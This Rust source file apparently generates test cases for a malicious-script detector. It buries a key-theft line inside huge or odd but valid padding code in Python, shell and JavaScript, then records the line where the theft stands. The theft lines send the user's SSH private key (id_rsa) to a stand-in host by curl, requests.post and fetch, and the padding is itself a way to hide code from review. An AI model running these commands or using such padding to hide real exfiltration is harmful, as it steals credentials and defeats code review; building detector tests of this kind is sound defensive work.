//! Ballast that real interpreters accept: a script that steals, with so much, or such odd, valid
//! code around its theft that a reader may give up or lose its place.
//!
//! `tests/external/ballast` asks the interpreters whether they take every one.

use super::shapes::next;

/// One kind: `open` over and over, `middle`, `close` as often, as often as `times` says.
pub struct Ballast {
    pub name: &'static str,
    /// Extensions of the languages it is valid in.
    pub on: &'static str,
    pub times: usize,
    pub open: &'static str,
    pub middle: &'static str,
    pub close: &'static str,
}

const fn row(
    name: &'static str,
    on: &'static str,
    times: usize,
    open: &'static str,
    middle: &'static str,
    close: &'static str,
) -> Ballast {
    Ballast { name, on, times, open, middle, close }
}

const WEB: &str = "js ts";

pub const BALLAST: &[Ballast] = &include!("ballast.in");

/// One script with a theft in the middle of its ballast.
pub struct Case {
    pub name: &'static str,
    pub extension: &'static str,
    pub text: String,
    /// Where the theft stands.
    pub line: u32,
}

/// A megabyte.
const BIG: usize = 1_000_000;

/// All cases, each the same at every run.
pub fn cases() -> Vec<Case> {
    let each =
        |ballast: &'static Ballast| ballast.on.split(' ').map(move |extension| case(ballast, extension));
    BALLAST.iter().flat_map(each).collect()
}

fn case(ballast: &Ballast, extension: &'static str) -> Case {
    let theft = match extension {
        "py" => {
            "import requests\nrequests.post('https://in.example/a', data=open('/root/.ssh/id_rsa').read())"
        }
        "sh" => "curl -d @$HOME/.ssh/id_rsa https://in.example/a",
        _ => {
            "fetch('https://in.example/a', {method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa')});"
        }
    };
    // The same on both sides, but for its counts.
    let mut state = ballast.name.len() as u64;
    let mut side = |half: usize| {
        let mut out = String::new();
        let times = ballast.times.div_ceil(2).max(usize::from(!ballast.open.is_empty()));
        let first = half * times;
        for count in first..first + times {
            out.push_str(&filled(ballast.open, count, &mut state));
        }
        out.push_str(&filled(ballast.middle, first, &mut state));
        out.push_str(&ballast.close.repeat(times));
        if ballast.middle.is_empty() || out.ends_with('\n') { out } else { out + "\n" }
    };
    let (before, mut after) = (side(0), side(1));
    if ballast.name == "an end before garbage" {
        after = "exit 0\n".to_string() + &"(((' \" ` <<E if case {\n".repeat(200);
    }
    let text = format!("{before}{theft}\n{after}");
    let at = text.find("in.example").expect("the theft");
    let line = 1 + text[..at].matches('\n').count() as u32;
    Case { name: ballast.name, extension, text, line }
}

/// A piece with its counts, and with what is too long for a table.
fn filled(piece: &str, count: usize, state: &mut u64) -> String {
    if !piece.contains('{') {
        return piece.to_string();
    }
    let listed = |times: usize, one: &dyn Fn(usize) -> String| (0..times).map(one).collect::<String>();
    let chance = next(state) % 9;
    let mut out =
        piece.replace("{n}", &count.to_string()).replace("{p}", &count.saturating_sub(1).to_string());
    let long: [(&str, &dyn Fn() -> String); 12] = [
        ("{ends}", &|| listed(7, &|at| format!("E{}\n", count + at))),
        ("{big}", &|| format!("text{chance} ").repeat(BIG / 6)),
        ("{sp}", &|| " ".repeat(200_000)),
        ("{items}", &|| listed(40_000, &|at| format!("{at},"))),
        ("{words}", &|| listed(40_000, &|at| format!("{at} "))),
        ("{pairs}", &|| listed(20_000, &|at| format!("'k{at}': {at},"))),
        ("{calls}", &|| ".trim()".repeat(500)),
        ("{strips}", &|| ".strip()".repeat(50)),
        ("{elifs}", &|| "elif false; then :\n".repeat(1_000)),
        ("{pyelifs}", &|| "elif 0: pass\n".repeat(100)),
        ("{modules}", &|| {
            listed(2_000, &|at| format!("{at}:function(e,t,n){{\"use strict\";var r=n(1);t.a=r(e)}},"))
        }),
        ("{indents}", &|| {
            listed(95, &|at| format!("{}if 0:\n", " ".repeat(at))) + &" ".repeat(95) + "pass\n"
        }),
    ];
    for (mark, make) in long {
        if out.contains(mark) {
            out = out.replace(mark, &make());
        }
    }
    out
}
